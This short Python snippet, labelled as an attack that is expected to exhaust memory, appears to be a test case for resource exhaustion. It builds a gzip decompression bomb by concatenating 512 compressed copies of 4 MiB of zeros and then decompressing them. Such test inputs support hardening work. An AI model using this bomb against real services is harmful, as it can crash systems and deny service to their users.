# attack: many small gzip members, one after another
# expect: exhausted memory
import gzip
gzip.decompress(gzip.compress(bytes(4 << 20)) * 512)
